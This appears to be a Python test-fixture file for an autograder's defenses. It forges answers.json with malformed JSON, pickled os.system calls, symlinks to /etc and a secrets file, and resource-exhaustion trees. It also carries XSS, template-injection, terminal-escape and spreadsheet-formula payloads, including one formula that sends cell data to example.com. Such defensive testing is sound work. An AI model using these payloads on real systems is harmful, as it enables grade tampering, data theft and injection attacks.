"""Forged answers: ``answers.json`` written by hand in every way that it should not be, and text that is more than text.

The file is put there just before the notebook's process ends itself, so that nothing sets it right again.
"""

from hostile import Attack

_LEAVE = "\nos._exit(0)\n"
NOT_READ = "answers.json cannot be read"


def raw(content: str, *trouble: str, **more: object) -> Attack:
    """The file's bytes, as an expression; nothing else is left of what was answered."""
    code = f"data = {content}\nos.unlink('answers.json')\nopen('answers.json', 'wb').write(data)" + _LEAVE
    return Attack({"q2-12": code}, earns={}, trouble=trouble or (NOT_READ,), runs=False, **more)


def placed(code: str, *trouble: str) -> Attack:
    """Something else in the file's place."""
    return Attack({"q2-12": f"os.unlink('answers.json')\n{code}{_LEAVE}"}, earns={}, trouble=trouble, runs=False)


def changed(
    code: str, *trouble: str, earns: dict[str, float] | None = None, also: tuple[str, ...] = (), runs: bool = True
) -> Attack:
    """The file as it should be (``book``), but for what the code changes."""
    before = "book = _loads(open('answers.json').read())\nanswers = book['answers']\n"
    after = "\nopen('answers.json', 'w').write(_dumps(book))" + _LEAVE
    return Attack(
        {"q2-12": before + code + after},
        honestly=("q2-1", *also),
        earns={"2.1": 2} if earns is None else earns,
        trouble=trouble,
        runs=runs,
    )


# Of each part that is asked for, something that is none; with claims of points where there is room for them.
ODD_PARTS = """
answers["2.1"] = {"V": {"kind": "expression", "value": ["call", "__import__('os').system('id')"]}}
answers["2.10"] = {"spectrum": {"kind": "function", "outputs": [[[1.0, 2.0], [1e308, 1e308]]] * 4},
                   "figure": {"kind": "figure", "axes": [{"title": "", "xlabel": "", "ylabel": "", "lines": []}] * 99}}
answers["2.11"]["omega_n"] = {"kind": "number", "value": 20.0, "points": 2, "out_of": 2, "status": "right", "share": 1}
answers["2.12"] = {"J_l": {"kind": "number", "value": True}, "K_s": {"kind": "number", "value": "1.3"}}
answers["points"] = {"total": {"kind": "number", "value": 11}}
answers["2.18"] = {"total": {}}
"""
ODD_SHAPES = """
answers["2.1"] = {"V": {"kind": "expression", "value": {"kind": "symbol"}}}
answers["2.10"] = {"spectrum": {"kind": "function", "outputs": [[[0.5] * 100_000]]}, "figure": {"kind": "figure"}}
answers["2.11"]["omega_n"] = {"kind": "matrix", "value": [[20.0]]}
answers["2.12"] = {"J_l": {"kind": "number", "value": [0.003]}, "K_s": {"kind": "number"}}
"""
# Trees that are small to write and large to build, or to work out.
STEEP = """
tree = ["mul", ["int", 18], ["symbol", "K_s"]]
for kind in ("exp", "exp", "sin"): tree = [kind, tree]
answers["2.1"] = {"V": {"kind": "expression", "value": tree}}
"""
SLOW = """
great = ["pow", ["int", 10**20], ["int", 64]]
tree = ["add", *(["sqrt", ["add", great, ["int", number]]] for number in range(160))]
answers["2.1"] = {"V": {"kind": "expression", "value": tree}}
"""
MANY = "book['answers'] |= {f'q{number}': {'a': {}} for number in range(40_000)}"

SOMEBODY_ELSE = """
book["student"], book["probe_seed"], book["bench"] = OUTSIDE["neighbour"], 7, {"uri": "qube:0"}
"""
# What was answered before stays, as it is the folder itself that is kept hold of.
ANOTHER_FOLDER = """
try: os.rename("/tmp/work", "/tmp/away")
except OSError: pass
try: os.symlink("/etc", "/tmp/work")
except OSError: pass
"""

FORGED = {
    "nan": raw("open('answers.json','rb').read().replace(b'\"2.1\"', b'\"2.9\": NaN, \"2.1\"')"),
    "infinity": raw("b'{\"answers\": -Infinity}'"),
    "beyond-floats": raw("open('answers.json','rb').read().replace(b'\"2.1\"', b'\"2.9\": 1e999, \"2.1\"')"),
    "nested": raw("b'{\"answers\":' + b'[' * 100_000 + b']' * 100_000 + b'}'", "lists or objects"),
    "huge-integer": raw("b'{\"format\": 1, \"answers\": ' + b'9' * 900_000 + b'}'", "integer"),
    "not-utf8": raw("b'\\xff\\xfe\\x00\\xd8' + b'{' * 50"),
    "pickled": raw("__import__('pickle').dumps({'format': 1, 'os': os.system})"),
    "too-large": raw("b'{\"a\": \"' + b'x' * 1_500_000 + b'\"}'"),
    "sparse": placed(
        "f = open('answers.json', 'wb'); f.truncate(60 << 20); f.close()",
        "answers.json cannot be read: it has more than",
    ),
    "a-pipe": placed("os.mkfifo('answers.json')", "answers.json cannot be read: it is not an ordinary file"),
    "a-folder": placed(
        "os.makedirs('answers.json/answers.json')", "answers.json cannot be read: it is not an ordinary file"
    ),
    "a-link-to-the-key": placed("os.symlink(OUTSIDE['secrets'][0], 'answers.json')", "answers.json cannot be read"),
    "another-folder": Attack({"q2-12": ANOTHER_FOLDER + _LEAVE}),
    "odd-parts": changed(ODD_PARTS, "Malformed: V: There is no 'call'", "Malformed: K_s:", earns={}),
    "odd-shapes": changed(ODD_SHAPES, "Malformed: omega_n should be of kind", "Malformed: J_l:", earns={}),
    "steep": changed(STEEP, "Malformed: V: An exponential within", earns={}),
    "slow": changed(SLOW, "Malformed: It cannot be worked out (TooSlow)", earns={}),
    "many": changed(MANY, "there is no such thing", "more of this sort"),
    "somebody-else": changed(
        SOMEBODY_ELSE, "The answers say that they are", "not tried on the inputs", also=("q2-10",)
    ),
    "escapes-in-format": changed("book['format'] = chr(27) + ']0;owned' + chr(7)", NOT_READ, earns={}, runs=False),
    "escapes-in-names": changed(
        "book['student'] = '=cmd|' + chr(27) + '[2J' + chr(0x202e) + '<script>'\n"
        "answers['<img src=x onerror=alert(1)>'] = {chr(27) + '[31m' + chr(0x9b) + '=1+1': {}}",
        "The answers say that they are",
    ),
}


MARKUP = (
    "</td></tr></table><script>alert(1)</script><img src=x onerror=alert(1)><style>*{display:none}</style>"
    "<meta http-equiv=refresh content='0;url=https://example.com'><!-- {{ 7*7 }} {% include '/etc/passwd' %} ]]>&#60;b>"
)
ESCAPES = "\\x1b[2J\\x1b]0;owned\\x07\\x9b31m\\u202eevil\\u2066\\u200b\\ud800\\x00[red]rich[/red]\\r=1+1"


def prose(text: str) -> Attack:
    """An explanation, which earns nothing before a person has read it."""
    return Attack({"q2-11": "", "q2-12": f"lab.answer('2.11', explanation={text})"}, runs=False)


FORMULA = '=HYPERLINK("https://example.com/?"&A1)\\n@SUM(1)\\n+1\\n-1\\t=2'
TEXT = {
    "markup": prose(f"'{FORMULA}' + {MARKUP!r} + '{ESCAPES}'"),
    "markup-by-hand": changed(
        f"answers['2.11']['explanation'] = {{'kind': 'prose', 'value': '{ESCAPES}'}}", "Malformed", runs=False
    ),
    "directions-by-hand": changed(
        "answers['2.11']['explanation'] = {'kind': 'prose', 'value': chr(0x202e) + chr(0x9b) + '31m' + '2 of 2'}",
        runs=False,
    ),
}
